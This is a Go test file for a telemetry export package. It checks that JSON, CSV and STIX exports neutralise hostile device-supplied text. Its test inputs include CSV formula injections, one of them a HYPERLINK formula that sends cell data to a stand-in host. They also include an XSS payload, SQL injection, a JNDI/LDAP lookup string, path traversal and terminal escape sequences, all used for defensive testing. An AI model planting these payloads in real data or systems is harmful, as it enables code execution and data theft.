package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/rivo/uniseg"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"
	"google.golang.org/protobuf/types/known/timestamppb"

	"simtrap/heuristics"
	"simtrap/ident"
	"simtrap/report"
	"simtrap/report/querypb"
	"simtrap/report/reportpb"
)

// kinds are the rows of every kind, empty.
func kinds() []proto.Message {
	return []proto.Message{
		&querypb.Finding{}, &querypb.Line{}, &querypb.Box{}, &querypb.Ring{}, &querypb.Controller{}, &querypb.Card{},
		&querypb.Sensor{}, &querypb.Case{}, &querypb.Feedback{},
	}
}

// formats that rows of a kind can be exported in.
func formatsOf(row proto.Message) []querypb.ExportFormat {
	formats := []querypb.ExportFormat{querypb.ExportFormat_EXPORT_FORMAT_JSON_LINES}
	if _, is := row.(*querypb.Feedback); !is {
		formats = append(formats, querypb.ExportFormat_EXPORT_FORMAT_CSV, querypb.ExportFormat_EXPORT_FORMAT_STIX)
	}
	return formats
}

// fill sets every field of a row: texts to text, lists to two values.
func fill(m protoreflect.Message, text string) {
	fields := m.Descriptor().Fields()
	for i := range fields.Len() {
		f := fields.Get(i)
		value := func() protoreflect.Value {
			switch f.Kind() {
			case protoreflect.StringKind:
				return protoreflect.ValueOfString(text)
			case protoreflect.BoolKind:
				return protoreflect.ValueOfBool(true)
			case protoreflect.DoubleKind:
				return protoreflect.ValueOfFloat64(-2.5)
			case protoreflect.Uint64Kind:
				return protoreflect.ValueOfUint64(math.MaxUint64)
			case protoreflect.Uint32Kind:
				return protoreflect.ValueOfUint32(math.MaxUint32)
			case protoreflect.Int32Kind:
				return protoreflect.ValueOfInt32(math.MinInt32)
			case protoreflect.Int64Kind:
				return protoreflect.ValueOfInt64(math.MinInt64)
			case protoreflect.EnumKind:
				return protoreflect.ValueOfEnum(2)
			}
			panic(f.FullName())
		}
		message := func(m protoreflect.Message) {
			if t, ok := m.Interface().(*timestamppb.Timestamp); ok {
				t.Seconds, t.Nanos = 1764000000, 123456789
				return
			}
			fill(m, text)
		}
		switch {
		case f.IsList() && f.Message() != nil:
			list := m.Mutable(f).List()
			for range 2 {
				message(list.AppendMutable().Message())
			}
		case f.IsList():
			list := m.Mutable(f).List()
			for range 2 {
				list.Append(value())
			}
		case f.Message() != nil:
			message(m.Mutable(f).Message())
		default:
			m.Set(f, value())
		}
	}
}

func exported(t *testing.T, o Options, rows ...proto.Message) []byte {
	t.Helper()
	o.Kind = kindOf(rows[0])
	var b bytes.Buffer
	w, err := New(&b, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// sample is a finding as a sensor makes it.
func sample() *heuristics.Finding {
	addr := func(s string) ident.Addr {
		a, _ := ident.ParseAddr([]byte(s))
		return a
	}
	return &heuristics.Finding{
		Line: ident.Line{Addr: addr("203.0.113.7"), Realm: 1}, Verdict: heuristics.Case, Score: 16.1, Margin: math.Inf(1), Nearest: "breakout",
		Device:      heuristics.Device{Vendor: "Gœteway", Model: "=cmd|' /C calc'!A0\x1b[2J\u202e<b>", Channels: 8},
		Controllers: []heuristics.Controller{{Addr: addr("198.51.100.9"), Role: "registrar"}, {Addr: addr("2001:db8::9"), Role: "sms-server"}},
		Signals:     []heuristics.Row{{ID: "keepalive", Family: "control", Nats: 4.25, Against: "home", Detail: "\"Foo;=1\"\r\n\t@x"}},
		Unseen:      []string{"media"},
		First:       time.Date(2026, 11, 23, 10, 0, 0, 5, time.UTC).UnixNano(),
		Last:        time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC).UnixNano(),
	}
}

// TestSensorsBytes: an export of findings is what the sensor would have printed.
func TestSensorsBytes(t *testing.T) {
	o := report.Options{Names: ident.NewPseudonymizer(make([]byte, 32), ""), Realm: func(ident.Realm) string { return "realm-a" }}
	f := sample()
	want := append(report.AppendJSON(nil, f, o), '\n')

	wire, err := proto.Marshal(&querypb.Finding{Id: "1", Sensor: "s", Finding: report.Message(f, o)})
	if err != nil {
		t.Fatal(err)
	}
	row := &querypb.Finding{}
	if err := proto.Unmarshal(wire, row); err != nil {
		t.Fatal(err)
	}
	got := exported(t, Options{Format: querypb.ExportFormat_EXPORT_FORMAT_JSON_LINES}, row)
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("not the sensor's bytes (-sensor +hub):\n%s", diff)
	}
	if !bytes.Contains(AppendRow(nil, row), bytes.TrimSpace(want)) {
		t.Errorf("a row in full does not hold the sensor's object: %s", AppendRow(nil, row))
	}
}

// TestRowJSON: names, order and words of a row.
func TestRowJSON(t *testing.T) {
	for _, test := range []struct {
		row  proto.Message
		want string
	}{
		{&querypb.Case{}, `{"id":"","title":"","state":"","owner":"","ring_ids":[],"box_ids":[],"opened":null,"closed":null,"outcome":"","comments":[]}`},
		{
			&querypb.Case{Id: "a", State: querypb.CaseState_CASE_STATE_HANDED_OVER, RingIds: []string{"b", "c"}, Opened: timestamppb.New(time.Unix(1, 5)), Outcome: 9},
			`{"id":"a","title":"","state":"handed-over","owner":"","ring_ids":["b","c"],"box_ids":[],"opened":"1970-01-01T00:00:01.000000005Z","closed":null,"outcome":"9","comments":[]}`,
		},
		{
			&querypb.Ring{Lines: 1 << 63, Margin: proto.Float64(-0.125), Verdict: reportpb.Verdict_VERDICT_NONE},
			`{"id":"","box_ids":[],"lines":9223372036854775808,"sensors":[],"controllers":[],"margin":-0.125,"nearest":"","verdict":"none","first_seen":null,"last_seen":null}`,
		},
		{
			&querypb.Box{Links: []*querypb.Link{{From: "f", To: "t", Kind: querypb.LinkKind_LINK_KIND_CONTROLLER_STACK, Nats: math.NaN()}}},
			`{"id":"","device":{"vendor":"","model":"","channels":0},"line_ids":[],"links":[{"from":"f","to":"t","kind":"controller-stack","nats":null,"reason":"","since":null}],` +
				`"cards":0,"ring_id":"","first_seen":null,"last_seen":null,"verdict":""}`,
		},
	} {
		if diff := cmp.Diff(test.want, string(AppendRow(nil, test.row))); diff != "" {
			t.Errorf("%T (-want +got):\n%s", test.row, diff)
		}
	}
}

func TestDisarm(t *testing.T) {
	for give, want := range map[string]string{
		"":                  "",
		"SIP-GW/1.0":        "SIP-GW/1.0",
		"=1+1":              "'=1+1",
		"+49":               "'+49",
		"-2":                "'-2",
		"@SUM(A1)":          "'@SUM(A1)",
		"  =1":              "  '=1",
		"＝1":                "'＝1",
		"a;=1":              "a;'=1",
		"a; =1":             "a; '=1",
		"a,+1":              "a,'+1",
		"a|-1":              "a|'-1",
		"a\"=1":             "a\"'=1",
		"'=1":               "''=1",
		"a=1":               "a=1",
		"1-2":               "1-2",
		"x@example.com":     "x@example.com",
		"==":                "'==",
		`\t=1`:              `\t=1`,
		"203.0.113.0/24":    "203.0.113.0/24",
		"46000~9f3ac21b66d": "46000~9f3ac21b66d",
	} {
		if got := disarm(give); got != want {
			t.Errorf("%q: %q, want %q", give, got, want)
		}
	}
}

// hostile are texts that strangers may put where a device names itself.
func hostile() []string {
	return []string{
		"=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"more\")",
		"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "＝1", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1",
		"a;=1", "a,=1", "a\t=1", "a\"=1", "a|=1", "a\n=1", "\"\n=1,\"", "\",=1", "a\";=1;\"",
		"\x1b]0;owned\x07\x1b[2J\x1b[31mred", "\u009b31m", "\u202eevil\u2066", "a\r\nb", "a\x00b", "\x7f\x08\x08",
		"</script><img src=x onerror=alert(1)>", "\\\"},{\"id\":\"x", "\u2028\u2029", strings.Repeat("e\u0301\u0301\u0301\u0301", 5),
		"\U000e0041", "٣", "日本語；＝1", strings.Repeat("A", 5000), "'; DROP TABLE findings; --", "${jndi:ldap://192.0.2.1}", "{{7*7}}", "%s%n", "../../etc/passwd",
	}
}

// harmless says that a text for a terminal has nothing that would move it.
func harmless(t *testing.T, where, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && (!unicode.IsPrint(r) || r == utf8.RuneError) {
			t.Fatalf("%s: %U in %q", where, r, text)
		}
	}
}

// TestInjection puts hostile text into every field of every row and looks at what
// comes out in every form.
func TestInjection(t *testing.T) {
	for _, row := range kinds() {
		for _, text := range hostile() {
			name := fmt.Sprintf("%T %.20q", row, text)
			proto.Reset(row)
			fill(row.ProtoReflect(), text)

			var b strings.Builder
			if err := WriteRow(&b, row, 0); err != nil {
				t.Fatal(err)
			}
			harmless(t, name, b.String())
			if _, is := row.(*querypb.Feedback); !is {
				b.Reset()
				if err := WriteTable(&b, []proto.Message{row, row}, 100); err != nil {
					t.Fatal(err)
				}
				harmless(t, name, b.String())
				if n := strings.Count(b.String(), "\n"); n != 3 {
					t.Fatalf("%s: a table of %d lines, want 3:\n%s", name, n, b.String())
				}
				for line := range strings.Lines(b.String()) {
					if n := uniseg.StringWidth(strings.TrimSuffix(line, "\n")); n > 100 {
						t.Fatalf("%s: a line of %d columns", name, n)
					}
				}
			}

			object := AppendRow(nil, row)
			harmless(t, name, string(object))
			if bytes.ContainsAny(object, "<>&\n") {
				t.Fatalf("%s: marks of HTML or a line end in %s", name, object)
			}
			var read map[string]any
			if err := json.Unmarshal(object, &read); err != nil {
				t.Fatalf("%s: %v in %s", name, err, object)
			}
			if id, ok := read["id"].(string); ok && id != text {
				t.Fatalf("%s: read back as %q", name, id)
			}
			if len(read) != row.ProtoReflect().Descriptor().Fields().Len() {
				t.Fatalf("%s: %d keys in %s", name, len(read), object)
			}

			for _, format := range formatsOf(row) {
				file := exported(t, Options{Format: format, Authority: "case 1"}, row, row)
				switch format {
				case querypb.ExportFormat_EXPORT_FORMAT_JSON_LINES:
					if n := bytes.Count(file, []byte("\n")); n != 2 {
						t.Fatalf("%s: %d lines", name, n)
					}
				case querypb.ExportFormat_EXPORT_FORMAT_CSV:
					checkCSV(t, name, file)
				case querypb.ExportFormat_EXPORT_FORMAT_STIX:
					checkBundle(t, name, file)
				}
			}
		}
	}
}

// checkCSV holds a file of two rows to RFC 4180, and every cell of it, whatever
// separates cells where it is opened, to begin with no formula.
func checkCSV(t *testing.T, name string, file []byte) {
	t.Helper()
	harmless(t, name, strings.ReplaceAll(string(file), "\r\n", "\n"))
	if n := bytes.Count(file, []byte("\r\n")); n != 3 {
		t.Fatalf("%s: %d lines in %s", name, n, file)
	}
	cells, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil || len(cells) != 3 {
		t.Fatalf("%s: %d rows, %v", name, len(cells), err)
	}
	for _, line := range cells[1:] {
		for i, cell := range line {
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				continue // a number of ours: texts have letters, or an apostrophe
			}
			for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";,|\"\t", r) }) {
				if part = strings.TrimLeft(part, " "); part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
					t.Fatalf("%s: %s has a formula: %q", name, cells[0][i], cell)
				}
			}
		}
	}
	// Where ";" separates, quotes do not begin where cells do.
	for _, part := range strings.FieldsFunc(string(file), func(r rune) bool { return r == ';' || r == '\n' }) {
		if part = strings.TrimLeft(part, " "); part != "" && strings.ContainsRune("=+-@", rune(part[0])) {
			t.Fatalf("%s: a formula where a semicolon separates: %q", name, part)
		}
	}
}

// TestColumns: every kind has as many cells as names.
func TestColumns(t *testing.T) {
	for _, row := range kinds() {
		if _, is := row.(*querypb.Feedback); is {
			continue
		}
		for _, filled := range []bool{false, true} {
			if filled {
				fill(row.ProtoReflect(), "x")
			}
			file := exported(t, Options{Format: querypb.ExportFormat_EXPORT_FORMAT_CSV}, row)
			if _, err := csv.NewReader(bytes.NewReader(file)).ReadAll(); err != nil {
				t.Errorf("%T: %v in %s", row, err, file)
			}
		}
	}
}

// TestRefused: what there is none of.
func TestRefused(t *testing.T) {
	for _, o := range []Options{
		{},
		{Kind: querypb.ExportKind_EXPORT_KIND_LINES},
		{Format: querypb.ExportFormat_EXPORT_FORMAT_CSV},
		{Kind: 99, Format: querypb.ExportFormat_EXPORT_FORMAT_CSV},
		{Kind: querypb.ExportKind_EXPORT_KIND_LINES, Format: 99},
		{Kind: querypb.ExportKind_EXPORT_KIND_FEEDBACK, Format: querypb.ExportFormat_EXPORT_FORMAT_CSV},
		{Kind: querypb.ExportKind_EXPORT_KIND_FEEDBACK, Format: querypb.ExportFormat_EXPORT_FORMAT_STIX},
	} {
		if _, err := New(&bytes.Buffer{}, o); err == nil {
			t.Errorf("%+v was taken", o)
		}
	}
	w, err := New(&bytes.Buffer{}, Options{Kind: querypb.ExportKind_EXPORT_KIND_LINES, Format: querypb.ExportFormat_EXPORT_FORMAT_CSV})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(&querypb.Ring{}); err == nil {
		t.Error("a ring was taken for a line")
	}
}

// TestMemory: what a writer holds does not grow with the rows.
func TestMemory(t *testing.T) {
	b := newBundle(Options{Kind: querypb.ExportKind_EXPORT_KIND_FINDINGS})
	for i := range maxSeen + 100 {
		b.once(strconv.Itoa(i))
	}
	if len(b.seen) > maxSeen {
		t.Errorf("%d ids are remembered, at most %d should be", len(b.seen), maxSeen)
	}
}
